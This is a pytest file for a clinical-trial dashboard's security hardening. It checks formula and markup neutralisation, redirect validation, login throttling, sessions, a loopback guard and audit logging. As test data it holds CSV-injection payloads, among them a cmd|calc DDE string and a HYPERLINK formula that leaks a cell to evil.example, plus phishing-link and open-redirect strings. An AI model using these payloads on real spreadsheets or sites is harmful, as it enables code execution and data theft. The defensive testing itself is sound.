"""#16 hardening, the parts that need no running server: untrusted dataset text (plotly markup, spreadsheet
formulas), the redirect check, the secret-key check, the shared store's atomic throttle, the audit log,
the app's own loopback guard, and simulate-alsfrs on a dataset it cannot write."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import resource
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from dashboard import shared_state, untrusted
from tests.browser.conftest import CHROMIUM, CHROMIUM_ARGS, REPO

HOSTILE_TERMS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "\t=1+1", '<a href="https://evil.example/phish">details</a>']


# ---------------------------------------------------------------- pure modules


@pytest.mark.parametrize("name", ["dashboard.untrusted", "dashboard.shared_state"])
def test_new_pure_modules_import_no_web_framework(name):
    code = f"import sys, {name}; print(' '.join(m for m in sys.modules if m.split('.')[0] in ('dash', 'flask')))"
    r = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and r.stdout.strip() == "", r.stdout + r.stderr


def test_plain_text_neutralises_plotly_markup():
    assert untrusted.plain_text("Headache") == "Headache"
    assert untrusted.plain_text('<a href="https://evil.example/phish">details</a>') == \
        '&lt;a href="https://evil.example/phish"&gt;details&lt;/a&gt;'
    assert untrusted.plain_text("a & b <br> c") == "a &amp; b &lt;br&gt; c"
    assert untrusted.plain_text(None) is None and untrusted.plain_text(7) == "7"
    assert untrusted.plain_texts(["<b>x</b>", "y"]) == ["&lt;b&gt;x&lt;/b&gt;", "y"]


def test_csv_cell_neutralises_formulas_and_keeps_numbers():
    for term in HOSTILE_TERMS[:5]:
        assert untrusted.csv_cell(term) == "'" + term
    for keep in ["Headache", "-1.5", "+3", "1e-3", "", "a=b", 5, -2.5, None]:
        assert untrusted.csv_cell(keep) == keep


def _hostile_dataset():
    from dashboard import importers

    ds = importers.load(REPO / "data")
    ae = ds.adverse_events.copy()
    terms = ae["term"].astype(object).to_numpy().copy()
    for i, term in enumerate(HOSTILE_TERMS):
        terms[i] = term
    ae["term"] = terms
    if "action" in ae.columns:
        actions = ae["action"].astype(object).to_numpy().copy()
        actions[0] = "=1+2"
        ae["action"] = actions
    return dataclasses.replace(ds, adverse_events=ae)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_csv_exports_carry_no_formula():
    """#16 finding 5: dataset text went verbatim into "Incidence (CSV)" and "Adverse events (CSV)"."""
    from dashboard import cohorts, reports

    ds = _hostile_dataset()
    cohort = cohorts.select(ds, cohorts.CohortFilter(population="safety"))
    for name, text in [("incidence", reports.incidence_csv(ds, cohort)),
                       ("adverse events", reports.adverse_events_csv(ds, cohort)),
                       ("selection", reports.selection_csv(ds, cohort)),
                       ("slope tests", reports.slope_tests_csv(ds, cohort))]:
        cells = _cells(text)
        bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
        assert bad == [], (name, bad[:5])
        if name in ("incidence", "adverse events"):
            assert "'" + HOSTILE_TERMS[0] in cells, name  # still there, to read, not to run
    # numbers are left alone (negative values too)
    assert any(_number(c) and c.startswith("-") for c in _cells(reports.selection_csv(ds, cohort)))


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


_PLOTLY_PROBE = r"""
import json, sys
from playwright.sync_api import sync_playwright
chromium, args, plotly_js, figures = json.loads(sys.stdin.read())
found = {}
with sync_playwright() as p:
    browser = p.chromium.launch(executable_path=chromium, headless=True, args=args)
    try:
        page = browser.new_page()
        page.set_content("<html><body><div id='g' style='width:600px;height:400px'></div></body></html>")
        page.add_script_tag(path=plotly_js)
        for name, fig in figures.items():
            page.evaluate("fig => Plotly.newPlot('g', fig.data, fig.layout, {displayModeBar: false})", fig)
            found[name] = page.evaluate(
                "() => ({links: Array.from(document.querySelectorAll('#g a')).map(a => a.getAttribute('href')"
                " || a.getAttribute('xlink:href')), text: document.querySelector('#g').textContent})")
            page.evaluate("() => Plotly.purge('g')")
    finally:
        browser.close()
print(json.dumps(found))
"""


def test_plotly_shows_neutralised_text_as_text_not_a_link():
    """#16 finding 7: an adverse-event term ``<a href=...>details</a>`` became a live link in the heatmap.
    The raw term makes a link (the attack); plain_text's makes none and shows the characters.  (Playwright runs
    in its own interpreter: the browser tests' session may hold a sync Playwright in this one.)"""
    import plotly

    if not Path(CHROMIUM).exists():
        pytest.fail(f"Chromium not found at {CHROMIUM}: run `bash tests/run.sh`")
    plotly_js = Path(plotly.__file__).parent / "package_data" / "plotly.min.js"
    term = HOSTILE_TERMS[5]
    safe = untrusted.plain_text(term)
    figures = {
        "raw": {"data": [{"type": "heatmap", "z": [[1]], "x": [term], "y": ["Patient 1"], "text": [[term]]}],
                "layout": {"title": {"text": term}}},
        "plain": {"data": [{"type": "heatmap", "z": [[1]], "x": [safe], "y": ["Patient 1"], "text": [[safe]]}],
                  "layout": {"title": {"text": safe}}},
    }
    probe_input = json.dumps([CHROMIUM, CHROMIUM_ARGS, str(plotly_js), figures])
    r = subprocess.run([sys.executable, "-c", _PLOTLY_PROBE], input=probe_input, cwd=REPO, capture_output=True,
                       text=True, timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    found = json.loads(r.stdout.strip().splitlines()[-1])
    assert "https://evil.example/phish" in found["raw"]["links"]  # the attack, unneutralised
    assert found["plain"]["links"] == []
    assert '<a href="https://evil.example/phish">details</a>' in found["plain"]["text"]


# ---------------------------------------------------------------- checks in security.py


def test_safe_next_keeps_only_same_site_paths():
    from dashboard.security import _safe_next

    for bad in ["//evil.example", "/\t/evil.example", "/\n/x", "/\r\n/x", "/\\evil", "https://evil.example",
                "/\x00", "/\x7f//x", "/\u2028/x", "evil.example", "", None, "/" + "a" * 3000]:
        assert _safe_next(bad) == "/", repr(bad)
    for good in ["/", "/?tab=fvc", "/?cohort=progressors&patients=1,2", "/%09/evil.example"]:
        assert _safe_next(good) == good


def test_secret_key_check():
    from dashboard.security import check_secret_key

    for weak in ["changeme", "secret", "x" * 40, "changeme" * 5, "password-password-password-password",
                 "0123456789012345678901234567890"]:
        assert check_secret_key(weak), weak
    assert check_secret_key("3f9c1e0b7a6d4c2e8f1a9b0c7d6e5f4a3b2c1d0e9f8a7b6c") is None


# ---------------------------------------------------------------- the shared store


def test_parallel_attempts_each_count(tmp_path):
    """#16 finding 2: sixteen parallel guesses all ran, since each read the count before any failure was
    recorded.  Now each attempt is counted atomically before the password is checked."""
    store = shared_state.LocalStore(str(tmp_path))
    results = []
    barrier = threading.Barrier(16)

    def guess():
        barrier.wait(5)
        results.append(store.throttle_attempt("n:k", 1000.0, 3, 60.0))

    threads = [threading.Thread(target=guess) for _ in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(10)
    assert sum(1 for w in results if w == 0) == 3 and len(results) == 16
    # in separate processes too (the gunicorn workers)
    code = ("import sys; from dashboard.shared_state import LocalStore; "
            "print(LocalStore(sys.argv[1]).throttle_attempt('n:p', 1000.0, 3, 60.0))")
    procs = [subprocess.Popen([sys.executable, "-c", code, str(tmp_path)], cwd=REPO, stdout=subprocess.PIPE, text=True)
             for _ in range(8)]
    waits = [float(p.communicate(timeout=60)[0]) for p in procs]
    assert sum(1 for w in waits if w == 0) == 3


def test_throttle_backoff_and_release(tmp_path):
    store = shared_state.LocalStore(str(tmp_path))
    assert [store.throttle_attempt("k", 100.0, 3, 8.0) for _ in range(3)] == [0, 0, 0]
    assert store.throttle_attempt("k", 100.2, 3, 8.0) == pytest.approx(0.3)  # locked 0.5 s after the third
    assert store.throttle_attempt("k", 100.6, 3, 8.0) == 0  # the fourth, counted: now 1 s
    assert store.throttle_attempt("k", 101.0, 3, 8.0) == pytest.approx(0.6)
    assert store.throttle_attempt("k", 100.0 + 2000, 3, 8.0) == 0  # a quarter of an hour later: forgotten
    store.throttle_release("k")
    store.throttle_reset("k")
    assert store.throttle_attempt("k", 3000.0, 3, 8.0) == 0


def test_sessions_expire_idle_and_absolute_and_revoke(tmp_path):
    store = shared_state.LocalStore(str(tmp_path))
    store.session_create("s1", "alice", "fp", 1000.0, idle=60, absolute=300)
    assert store.session_check("s1", 1050.0, 60, 300).user == "alice"
    assert store.session_check("s1", 1100.0, 60, 300) is not None  # touched at 1050
    assert store.session_check("s1", 1170.0, 60, 300) is None  # idle for 70 s
    store.session_create("s2", "alice", "fp", 1000.0, idle=60, absolute=120)
    for t in (1040.0, 1080.0, 1115.0):
        assert store.session_check("s2", t, 60, 120) is not None
    assert store.session_check("s2", 1125.0, 60, 120) is None  # absolute
    store.session_create("s3", "bob", "fp", 1000.0, idle=60, absolute=300)
    store.session_revoke("s3")
    assert store.session_check("s3", 1001.0, 60, 300) is None
    assert [store.next_seq() for _ in range(3)] == [1, 2, 3]


# ---------------------------------------------------------------- in a fresh interpreter: the app itself

_APP_PROBE = r"""
import json, os, sys
from dashboard.server import create_app
app = create_app()
c = app.server.test_client()
out = {}
far = {"REMOTE_ADDR": "10.9.8.7"}
out["far"] = c.get("/_dash-layout", environ_base=far).status_code
out["far_page"] = c.get("/", environ_base=far).status_code
out["near"] = c.get("/_dash-layout").status_code
from dashboard import audit
near = {"REMOTE_ADDR": "127.0.0.5"}
with app.server.test_request_context("/_dash-update-component", method="POST", environ_base=near):
    from flask import g
    g.user, g.request_id = "carol", "abc"
    fn = audit.audited_export(lambda **kw: {"content": "a,b\n1,2\n", "filename": "x.csv", "type": "text/csv"})
    fn(store={"cohort": "safety"})
    audit.record("custom", what="thing")
print(json.dumps(out))
"""


def test_the_app_itself_serves_only_loopback_without_users(tmp_path):
    """#16 finding 4: the loopback-only guard lived only in gunicorn_conf.py.  The app now refuses other
    addresses itself when no users are configured (whatever server runs it)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DASHBOARD_", "TRIAL_DATA_DIR"))}
    env["DASHBOARD_AUDIT_LOG"] = str(tmp_path / "audit.jsonl")
    r = subprocess.run([sys.executable, "-c", _APP_PROBE], cwd=REPO, env=env, capture_output=True, text=True,
                       timeout=180)
    assert r.returncode == 0, r.stderr[-3000:]
    out = json.loads(r.stdout.strip().splitlines()[-1])
    assert out == {"far": 403, "far_page": 403, "near": 200}
    lines = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert [x["event"] for x in lines] == ["export", "custom"]
    exp = lines[0]
    assert exp["user"] == "carol" and exp["addr"] == "127.0.0.5" and exp["filename"] == "x.csv"
    assert exp["bytes"] == 8 and len(exp["sha256"]) == 64 and exp["filter"] == {"cohort": "safety"}
    assert exp["time"].endswith("Z") and lines[1]["seq"] == exp["seq"] + 1
    assert oct((tmp_path / "audit.jsonl").stat().st_mode & 0o777) == "0o600"


# ---------------------------------------------------------------- simulate-alsfrs


def _copy_data(tmp_path) -> Path:
    d = tmp_path / "data"
    shutil.copytree(REPO / "data", d)
    return d


def _limit_file_size():
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))


def test_simulate_alsfrs_never_truncates_measurements(tmp_path):
    """#16 finding 9: measurements.csv was rewritten in place; a failed write (here: the file size limit)
    truncated it and printed a traceback."""
    d = _copy_data(tmp_path)
    before = (d / "measurements.csv").read_bytes()
    r = subprocess.run([sys.executable, "-m", "dashboard", "simulate-alsfrs", "--data", str(d)], cwd=REPO,
                       capture_output=True, text=True, timeout=120, preexec_fn=_limit_file_size)
    assert r.returncode == 1, (r.returncode, r.stderr[-2000:])
    assert "Traceback" not in r.stderr and "cannot write" in r.stderr and "nothing was changed" in r.stderr
    assert (d / "measurements.csv").read_bytes() == before
    assert sorted(p.name for p in d.iterdir()) == sorted(p.name for p in (REPO / "data").iterdir())


def test_simulate_alsfrs_on_a_read_only_dataset(tmp_path):
    """#16 finding 9: on a read-only dataset it printed a raw traceback."""
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("setpriv (util-linux) is needed to drop root's file-permission override")
    d = _copy_data(tmp_path)
    before = (d / "measurements.csv").read_bytes()
    for p in [*d.iterdir(), d]:
        p.chmod(0o555 if p.is_dir() else 0o444)
    try:
        cmd = [sys.executable, "-m", "dashboard", "simulate-alsfrs", "--data", str(d)]
        if os.geteuid() == 0:  # root writes anywhere: drop the capability that lets it
            cmd = [setpriv, "--bounding-set=-dac_override,-dac_read_search",
                   "--inh-caps=-dac_override,-dac_read_search", *cmd]
        r = subprocess.run(cmd, cwd=REPO, capture_output=True, text=True, timeout=120)
    finally:
        for p in [d, *d.iterdir()]:
            p.chmod(0o755 if p.is_dir() else 0o644)
    assert r.returncode == 1, (r.returncode, r.stderr[-2000:])
    assert "Traceback" not in r.stderr and "cannot write" in r.stderr
    assert (d / "measurements.csv").read_bytes() == before
